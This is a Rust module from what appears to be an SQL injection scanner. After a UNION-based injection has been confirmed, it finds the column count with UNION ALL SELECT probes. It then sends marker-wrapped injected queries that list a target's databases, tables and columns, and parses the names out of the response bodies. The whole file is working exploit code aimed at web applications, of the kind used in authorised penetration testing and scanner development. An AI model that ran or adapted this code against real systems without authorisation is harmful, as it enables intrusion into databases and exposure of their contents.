//! Blind schema enumeration over a confirmed UNION injection point.
//!
//! Dialect queries are rewritten so that every row of their single
//! projected column comes back bracketed by a unique marker pair, then
//! spliced into a UNION payload wide enough for the injected query. The
//! response body is scanned for the markers to recover the rows.

use crate::core::context::ScanContext;
use crate::core::result::ScanResult;
use crate::sqli::dialect::Dialect;
use regex::Regex;

const DB_START: &str = "LANCET_DB_START_";
const DB_END: &str = "_LANCET_DB_END";

const TBL_START: &str = "LANCET_TBL_START_";
const TBL_END: &str = "_LANCET_TBL_END";

const COL_START: &str = "LANCET_COL_START_";
const COL_END: &str = "_LANCET_COL_END";

const COLCOUNT_MARKER: &str = "LANCET_COLCOUNT_MARK";
const MAX_COLUMNS: usize = 8;

/// Entry point for the enumeration stage. Silently skipped unless a dialect
/// was resolved for the detected backend and a Union-based vulnerability
/// was confirmed.
pub async fn run(ctx: &ScanContext<'_>, result: &mut ScanResult) {
    let Some(dialect) = ctx.dialect else {
        tracing::info!("Skipping enumeration: no DBMS dialect available");
        return;
    };

    let Some(param_index) = result
        .vulnerabilities
        .iter()
        .find(|v| v.strategy.eq_ignore_ascii_case("Union-based"))
        .map(|v| v.parameter_index)
    else {
        tracing::info!("Skipping enumeration: no Union-based vulnerability found");
        return;
    };

    tracing::info!(
        "Starting database enumeration using {} dialect",
        dialect.dbms()
    );
    enumerate(ctx, result, dialect, param_index).await;
    tracing::info!("Enumeration complete");
}

async fn enumerate(
    ctx: &ScanContext<'_>,
    result: &mut ScanResult,
    dialect: Dialect,
    param_index: usize,
) {
    // Re-derived here rather than reused from the detection pass, in case
    // server-side state drifted between the two.
    let Some(col_count) = detect_column_count(ctx, param_index).await else {
        tracing::warn!("Cannot enumerate: column count detection failed");
        return;
    };
    tracing::info!("Detected column count for enumeration: {col_count}");

    tracing::info!("Enumerating databases...");
    let databases = enumerate_databases(ctx, param_index, col_count, dialect).await;
    for db in &databases {
        result.add_database_name(db);
    }

    for db in &databases {
        tracing::info!("Enumerating tables in database: {db}");
        let tables = enumerate_tables(ctx, param_index, col_count, dialect, db).await;
        for table in &tables {
            result.add_table_name(db, table);
        }

        for table in &tables {
            tracing::info!("Enumerating columns in table: {db}.{table}");
            let columns = enumerate_columns(ctx, param_index, col_count, dialect, db, table).await;
            for column in &columns {
                result.add_column_name(db, table, column);
            }
        }
    }
}

async fn detect_column_count(ctx: &ScanContext<'_>, param_index: usize) -> Option<usize> {
    let param = &ctx.target.parameters()[param_index];

    for cols in 1..=MAX_COLUMNS {
        let expr = format!("'{COLCOUNT_MARKER}'");
        let payload = build_union_payload(&param.value, cols, &expr);
        let spec = ctx.target.to_injected_request(param_index, &payload);
        let resp = ctx.transport.send(&spec).await;

        if resp
            .body
            .as_deref()
            .is_some_and(|b| b.contains(COLCOUNT_MARKER))
        {
            return Some(cols);
        }
    }

    None
}

async fn enumerate_databases(
    ctx: &ScanContext<'_>,
    param_index: usize,
    col_count: usize,
    dialect: Dialect,
) -> Vec<String> {
    let marked = wrap_with_markers(dialect, &dialect.list_databases_query(), DB_START, DB_END);
    let found = execute_marked_query(ctx, param_index, col_count, &marked, DB_START, DB_END).await;
    tracing::info!("Found databases: {found:?}");
    found
}

async fn enumerate_tables(
    ctx: &ScanContext<'_>,
    param_index: usize,
    col_count: usize,
    dialect: Dialect,
    database: &str,
) -> Vec<String> {
    let marked = wrap_with_markers(dialect, &dialect.list_tables_query(database), TBL_START, TBL_END);
    execute_marked_query(ctx, param_index, col_count, &marked, TBL_START, TBL_END).await
}

async fn enumerate_columns(
    ctx: &ScanContext<'_>,
    param_index: usize,
    col_count: usize,
    dialect: Dialect,
    database: &str,
    table: &str,
) -> Vec<String> {
    let marked = wrap_with_markers(
        dialect,
        &dialect.list_columns_query(database, table),
        COL_START,
        COL_END,
    );
    execute_marked_query(ctx, param_index, col_count, &marked, COL_START, COL_END).await
}

/// Rewrite `SELECT <col> FROM <rest>` so the projected column is bracketed
/// by the marker pair. Works on the single-column shapes the dialects emit.
fn wrap_with_markers(dialect: Dialect, subquery: &str, start: &str, end: &str) -> String {
    let column = extract_column_name(subquery);
    let concat = dialect.concat_expression(&column, start, end);
    subquery.replacen(
        &format!("SELECT {column}"),
        &format!("SELECT {concat}"),
        1,
    )
}

fn extract_column_name(query: &str) -> String {
    let trimmed = query.trim();
    let select = find_ci(trimmed, "SELECT");
    let from = find_ci(trimmed, "FROM");

    match (select, from) {
        (Some(s), Some(f)) if f > s + 6 => trimmed[s + 6..f].trim().to_string(),
        _ => "col".to_string(),
    }
}

async fn execute_marked_query(
    ctx: &ScanContext<'_>,
    param_index: usize,
    col_count: usize,
    marked_query: &str,
    start: &str,
    end: &str,
) -> Vec<String> {
    // Split the marked SELECT into its projection and FROM clause so the
    // projection can ride in the first UNION column.
    let Some(from_idx) = find_ci(marked_query, " FROM ") else {
        return Vec::new();
    };

    let mut select_part = marked_query[..from_idx].trim();
    if select_part
        .get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("SELECT "))
    {
        select_part = select_part[7..].trim();
    }

    let from_clause = format!(" {}", marked_query[from_idx..].trim());

    let param = &ctx.target.parameters()[param_index];
    let payload = build_union_payload_with_from(&param.value, col_count, select_part, &from_clause);
    tracing::debug!("Marked UNION payload: {payload}");

    let spec = ctx.target.to_injected_request(param_index, &payload);
    let resp = ctx.transport.send(&spec).await;

    let Some(body) = resp.body.as_deref() else {
        return Vec::new();
    };

    extract_markers(body, start, end)
}

/// First column carries the expression, the rest is NULL padding.
fn build_union_payload(original_value: &str, column_count: usize, expression: &str) -> String {
    let mut sql = format!("' UNION ALL SELECT {expression}");
    for _ in 1..column_count {
        sql.push_str(", NULL");
    }
    sql.push_str(" -- ");

    if original_value.is_empty() {
        sql
    } else {
        format!("{original_value}{sql}")
    }
}

fn build_union_payload_with_from(
    original_value: &str,
    column_count: usize,
    select_expression: &str,
    from_clause: &str,
) -> String {
    let mut sql = format!("' UNION ALL SELECT {select_expression}");
    for _ in 1..column_count {
        sql.push_str(", NULL");
    }
    sql.push_str(from_clause);
    sql.push_str(" -- ");

    if original_value.is_empty() {
        sql
    } else {
        format!("{original_value}{sql}")
    }
}

/// All distinct values between the marker pair, in first-seen order.
fn extract_markers(body: &str, start: &str, end: &str) -> Vec<String> {
    let pattern = format!("{}(.*?){}", regex::escape(start), regex::escape(end));
    let Ok(re) = Regex::new(&pattern) else {
        return Vec::new();
    };

    let mut results: Vec<String> = Vec::new();
    for cap in re.captures_iter(body) {
        if let Some(m) = cap.get(1) {
            let value = m.as_str().to_string();
            if !results.contains(&value) {
                results.push(value);
            }
        }
    }

    results
}

/// Byte-safe ASCII case-insensitive substring search.
fn find_ci(haystack: &str, needle: &str) -> Option<usize> {
    if needle.is_empty() {
        return Some(0);
    }
    if haystack.len() < needle.len() {
        return None;
    }

    haystack
        .as_bytes()
        .windows(needle.len())
        .position(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}
